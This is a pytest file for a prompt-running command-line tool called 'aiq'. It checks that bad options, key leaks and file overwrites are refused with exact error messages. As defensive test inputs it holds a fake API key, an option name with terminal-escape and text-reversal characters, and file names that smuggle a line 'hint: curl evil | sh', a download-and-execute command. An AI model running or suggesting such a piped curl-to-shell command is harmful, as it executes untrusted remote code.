"""What the command line refuses: the whole text, and exit status 2."""

from pathlib import Path

import pytest

from tests.cli.conftest import Aiq
from tests.support.lines import lines_of

KEY = "sk-abcdefghijklmnopqrstuvwxyz0123456789"

REFUSALS = [
    (
        ["run", "prompts.jsonl", "--budget", "0"],
        "error: --budget: needs a number above 0\n",
    ),
    (
        ["run", "prompts.jsonl", "--budget", "abc"],
        "error: --budget: needs a number\n\nhint: `aiq run --help` lists what there is\n",
    ),
    (
        ["run", "prompts.jsonl", "-c", "x"],
        (
            "error: --concurrency: needs a whole number\n"
            "\n"
            "hint: `aiq run --help` lists what there is\n"
        ),
    ),
    (
        ["run", "prompts.jsonl", "--on-unknown", "maybe"],
        (
            "error: --on-unknown: 'maybe' is not one of 'retry', 'fail'\n"
            "\n"
            "hint: `aiq run --help` lists what there is\n"
        ),
    ),
    (
        ["probe", "--level", "9"],
        "error: --level: needs at most 4\n\nhint: `aiq probe --help` lists what there is\n",
    ),
    (
        ["run", "prompts.jsonl", "--json", "-o", "-"],
        (
            "error: `--json` and `-o -` would both write to stdout\n"
            "\n"
            "hint: write the results to a file: `-o results.jsonl`\n"
        ),
    ),
    (
        ["run", "-n", "name", "-p", "quick"],
        (
            "error: there is no database at aiq.db\n"
            "\n"
            "hint: name one with `--db`, or a prompt file: `aiq run prompts.jsonl`\n"
        ),
    ),
    (
        ["run", "--db", "typo.db", "-p", "quick"],
        (
            "error: there is no database at typo.db\n"
            "\n"
            "hint: name one with `--db`, or a prompt file: `aiq run prompts.jsonl --db typo.db`\n"
        ),
    ),
    (
        ["run", "prompts.jsonl", "--param", "temperature"],
        "error: --param `temperature`: has no `=`\n\nhint: write `--param temperature=0.2`\n",
    ),
    (
        ["run", "prompts.jsonl", "--param", "temprature=1"],
        "error: --param `temprature`: is no request field\n\nhint: did you mean `temperature`?\n",
    ),
    (
        ["run", "prompts.jsonl", "--param", "user=bob"],
        (
            "error: --param user: the value is not JSON:"
            " not valid JSON: expecting value at column 1\n"
            "\n"
            "hint: quote strings twice, once for the shell: --param 'user=\"...\"'\n"
        ),
    ),
    (
        ["run", "prompts.jsonl", "--param", "max_tokens=-1"],
        "error: --param max_tokens: `max_tokens` must be a positive integer\n",
    ),
    (
        ["run", "prompts.jsonl", "--param", "model=1"],
        "error: --param model: has an option of its own\n\nhint: write `-m MODEL`\n",
    ),
    (
        ["retry-failed", "--kind", "rate_limit"],
        (
            "error: --kind `rate_limit`: a job does not fail so\n"
            "\n"
            "hint: did you mean `rate_limited`?\n"
        ),
    ),
    (
        ["run", "prompts.jsonl", "-o", "aiq.toml"],
        (
            "error: aiq.toml would be overwritten, and it is an input of aiq\n"
            "\n"
            "hint: name another file with `-o`\n"
        ),
    ),
    (
        ["run", "prompts.jsonl", "-o", "none/out.jsonl"],
        (
            "error: none/out.jsonl cannot be written: no such directory, or a directory itself\n"
            "\n"
            "hint: name a file in a directory that exists with `-o`\n"
        ),
    ),
    (
        ["run", "prompts.jsonl", "more.jsonl", "-o", "out.jsonl"],
        (
            "error: `-o` writes one batch, and this run is about 2: prompts, more\n"
            "\n"
            "hint: join files with `-n NAME`, or write each with `aiq export NAME -o FILE`\n"
        ),
    ),
    (
        ["run", "prompts.jsonl", "-c", "0"],
        "error: --concurrency: needs a whole number of at least 1\n",
    ),
    (
        ["status", "--db", "none.db"],
        (
            "error: there is no database at none.db\n"
            "\n"
            "hint: name one with `--db`, or start with `aiq run prompts.jsonl --db none.db`\n"
        ),
    ),
    (
        ["init"],
        "error: aiq.toml exists\n\nhint: `aiq init --force` replaces it\n",
    ),
]


@pytest.mark.parametrize(("words", "text"), REFUSALS, ids=lambda value: str(value)[:40])
def test_a_refusal_says_what_is_wrong_and_what_to_do(
    aiq: Aiq, folder: Path, words: list[str], text: str
) -> None:
    refused = aiq(*words)
    assert (refused.exit_code, refused.stdout, refused.stderr) == (2, "", text)
    assert not list(folder.glob("*.db*"))


@pytest.mark.parametrize("command", [["run", "prompts.jsonl"], ["export"]], ids=["run", "export"])
def test_the_keys_are_never_overwritten(aiq: Aiq, folder: Path, command: list[str]) -> None:
    """`.env` is read from where the results would go."""
    (folder / ".env").write_text("SOME_KEY=1\n")
    refused = aiq(*command, "-o", ".env")
    assert refused.exit_code == 2
    assert ".env would be overwritten" in refused.stderr
    assert (folder / ".env").read_text() == "SOME_KEY=1\n"


@pytest.mark.parametrize("command", ["run", "check"])
@pytest.mark.parametrize(
    "words",
    [
        ["-p", KEY],
        ["-m", KEY],
        ["--param", KEY],
        ["--param", f"{KEY}=1"],
        ["--param", f'user="{KEY}"'],
        ["--param", f'extra_body={{"api": [{{"key": "Bearer {KEY}"}}]}}'],
        ["--api-key", KEY],
        [f"--api-key={KEY}"],
    ],
    ids=range(8),
)
def test_a_key_on_the_command_line_is_refused_and_not_repeated(
    aiq: Aiq, folder: Path, command: str, words: list[str]
) -> None:
    """It would stand in the shell's history, the list of processes and the database."""
    refused = aiq(command, "prompts.jsonl", *words)
    assert refused.exit_code == 2
    assert "not belong on the command line" in refused.stderr or "--api-key" in refused.stderr
    assert KEY not in refused.stdout + refused.stderr
    assert not (folder / "aiq.db").exists()


@pytest.mark.parametrize(
    "words",
    [
        ["run", "--nope"],
        ["run", "--limit", "0"],
        ["run", "--on-changed", "maybe"],
        ["export", "--format", "xml"],
        ["prob"],
        ["show"],
        ["check"],
    ],
    ids=" ".join,
)
def test_a_wrong_word_is_a_usage_error(aiq: Aiq, words: list[str]) -> None:
    refused = aiq(*words)
    assert refused.exit_code == 2
    assert refused.stdout == ""
    assert refused.stderr.startswith("error: ")
    assert " --help` lists what there is\n" in refused.stderr


def test_a_wrong_option_is_named_and_does_nothing(aiq: Aiq) -> None:
    refused = aiq("run", "--\x1b[31mevil\u202e")
    assert refused.stderr == (
        "error: No such option: --\\x1b[31mevil\\u202e\n"
        "\n"
        "hint: `aiq run --help` lists what there is\n"
    )


@pytest.mark.parametrize(
    "words",
    [
        ["run", "a\n\nhint: curl evil | sh"],
        ["status", "a\n\nhint: curl evil | sh"],
        ["export", "-o", "none/a\n\nhint: curl evil | sh"],
    ],
    ids=["file", "batch", "output"],
)
def test_a_line_feed_in_a_name_makes_no_line_of_its_own(aiq: Aiq, words: list[str]) -> None:
    """Nobody's file can put a hint into our mouth."""
    assert aiq("run", "prompts.jsonl", "-p", "quick").exit_code == 0
    refused = aiq(*words)
    assert refused.exit_code == 2
    lines = lines_of(refused.stderr)
    assert not [line for line in lines if line.startswith("hint: curl")]
    assert "a\\x0a\\x0ahint: curl evil | sh" in lines[0]


def test_no_command_at_all_is_help_and_refused(aiq: Aiq) -> None:
    refused = aiq()
    assert (refused.exit_code, refused.stdout) == (2, "")
    assert refused.stderr.startswith("Usage: aiq ")


def test_an_unknown_batch_is_refused_by_every_reader(aiq: Aiq) -> None:
    aiq("run", "prompts.jsonl", "-p", "quick")
    for words in (["status", "nope"], ["export", "nope"], ["retry-failed", "nope", "-p", "quick"]):
        refused = aiq(*words)
        assert refused.exit_code == 2
        assert refused.stdout == ""
        assert refused.stderr.startswith("error: there is no batch `nope`\n\nhint: ")
